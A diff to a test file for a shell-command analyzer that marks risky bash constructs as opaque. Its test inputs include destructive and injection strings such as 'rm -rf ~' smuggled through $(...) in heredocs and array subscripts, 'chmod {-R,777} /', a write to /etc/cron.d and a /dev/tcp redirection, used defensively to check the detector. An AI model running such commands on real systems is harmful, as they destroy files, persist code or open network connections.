@@ -13,7 +13,7 @@ describe('shell scripts', () => {
   it('finds every command in pipelines, lists, subshells, substitutions and bodies', async () => {
     expect(await programs('a | b && c; (d) || { e; }')).toEqual(['a', 'b', 'c', 'd', 'e']);
     expect(await programs('echo "$(id)" `whoami` <(ls)')).toEqual(['id', 'whoami', 'ls', 'echo']);
-    expect(await programs('for i in 1 2; do rm "$i"; done; f() { shred x; }; while true; do sleep 1; done')).toEqual(['rm', 'shred', 'true', 'sleep']);
+    expect(await programs('for i in 1 2; do rm "$i"; done; f() { shred x; }; while true; do sleep 1; done')).toEqual(['opaque:rm', 'rm', 'shred', 'true', 'sleep']);
     expect(await programs('X=$(cat secret) ; export Y=$(date)')).toEqual(['cat', 'date']);
   });
 
@@ -35,9 +35,41 @@ describe('shell scripts', () => {
     expect(await programs(`'ls'`)).toEqual(['ls']);
   });
 
-  it('marks arguments that expand at run time', async () => {
-    const [fact] = await script('rm "$DIR"');
-    expect(fact!.dynamic_args).toBe(true);
+  it('marks arguments that expand at run time, and makes them opaque unless no argument can hurt', async () => {
+    const facts = await script('rm "$DIR"');
+    expect(facts.find((f) => f.program === 'rm' && !f.opaque)!.dynamic_args).toBe(true);
+    expect(facts.some((f) => f.opaque)).toBe(true);
+    for (const text of ['git push {-f,origin} main', 'git reset --{soft,hard}', 'chmod {-R,777} /', 'x=--force; git push origin main $x', 'git add *', 'sort $OPTS f']) {
+      expect((await script(text)).some((f) => f.opaque), text).toBe(true);
+    }
+    for (const text of ['echo "$HOME"', 'ls *.txt', 'cat "$F" | grep x', 'echo {a,b}']) {
+      expect((await script(text)).some((f) => f.opaque), text).toBe(false);
+    }
+  });
+
+  it('makes bash constructs that evaluate data as code opaque', async () => {
+    for (const text of [
+      "cat <<EOF\n$(rm -rf ~)\nEOF",
+      "printf -v 'a[$(rm -rf ~)]' x",
+      "read 'a[$(rm -rf ~)]' <<< x",
+      "test -v 'a[$(rm -rf ~)]'",
+      "a='x[$(id)]'; [[ $a -eq 0 ]]",
+      'echo $(( x + 1 ))',
+      '(( a ))',
+      'declare -i b=$x',
+      'echo ${!x}',
+      'echo ${x@P}',
+      'echo ${a[$i]}',
+      "PS4='$(id)' bash -xc true",
+    ]) {
+      expect((await script(text)).some((f) => f.opaque || f.program === 'rm'), text).toBe(true);
+    }
+  });
+
+  it('sees writes and network connections through every redirection spelling', async () => {
+    const facts = await script('echo x >& /etc/cron.d/x; echo y > 1; cat f >& /dev/tcp/h/443; ls 2>&1 >&2');
+    expect(facts.filter((f) => f.program === 'shell-redirect' && !f.opaque).map((f) => f.path)).toEqual(['/etc/cron.d/x', '1']);
+    expect(facts.some((f) => f.opaque && String(f.opaque_reason).includes('/dev/tcp'))).toBe(true);
   });
 
   it('treats syntax errors as opaque, alongside what it could read', async () => {
